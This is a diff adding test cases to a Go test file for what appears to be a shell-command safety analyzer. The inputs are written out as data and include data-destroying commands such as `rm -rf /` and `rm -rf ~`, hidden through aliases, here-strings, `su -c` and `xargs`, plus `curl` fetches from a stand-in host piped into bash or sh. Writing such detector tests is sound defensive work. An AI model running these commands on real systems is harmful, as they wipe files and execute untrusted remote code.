@@ -113,6 +113,20 @@ func TestLines(t *testing.T) {
 		{cmd: `cat <(rm -rf /)`, want: []string{"rm -rf /"}},
 		{cmd: "cat <<EOF\n$(rm -rf /)\nEOF", want: []string{"rm -rf /"}},
 		{cmd: `trap 'rm -rf ~' EXIT`, want: []string{"rm -rf ~"}},
+		// more ways to run something
+		{cmd: `bash <<< "$(curl -s https://x.example/i)"`, want: []string{"curl -s https://x.example/i | bash -"}},
+		{cmd: `bash < <(curl -s https://x.example/i)`, want: []string{"curl -s https://x.example/i | bash -"}},
+		{cmd: `curl -s https://x.example/i | source /dev/stdin`, want: []string{"curl -s https://x.example/i | sh -"}},
+		{cmd: "cat <<EOF | sh\nrm -rf /\nEOF", want: []string{"rm -rf /"}},
+		{cmd: `alias x='rm -rf /'; x`, want: []string{"rm -rf /"}},
+		{cmd: `cd / && rm -rf *`, want: []string{"rm -rf /*"}},
+		{cmd: `cd ~ && rm -rf .`, want: []string{"rm -rf ~"}},
+		{cmd: `cd /tmp && rm -rf build`, want: []string{"rm -rf build"}},
+		{cmd: `$SHELL -c 'rm -rf ~'`, want: []string{"rm -rf ~"}},
+		{cmd: `script -qc 'rm -rf /' /dev/null`, want: []string{"rm -rf /"}},
+		{cmd: `su -lc 'rm -rf /'`, want: []string{"rm -rf /"}},
+		{cmd: `echo 'rm -rf /' | xargs -0 sh -c`, want: []string{"rm -rf /"}},
+		{cmd: `echo 'rm -rf /' | xargs sh -c`, not: []string{"rm -rf /"}},
 	}
 	for _, tt := range tests {
 		a := Analyze(tt.cmd, Options{Home: "/home/u"})
@@ -235,5 +249,14 @@ func TestMemo(t *testing.T) {
 	}
 	if b := Analyze("rm -rf /", Options{Home: "/other"}); a == b {
 		t.Error("another home got the same analysis")
+	}
+}
+
+func TestWordSet(t *testing.T) {
+	s := wordSet(" -c -command --c sh ")
+	for w, want := range map[string]bool{"-c": true, "-command": true, "--c": true, "sh": true, "c": false, "-co": false, "": false, "-c -command": false, "s": false} {
+		if got := s.has(w); got != want {
+			t.Errorf("has(%q) = %v, want %v", w, got, want)
+		}
 	}
 }
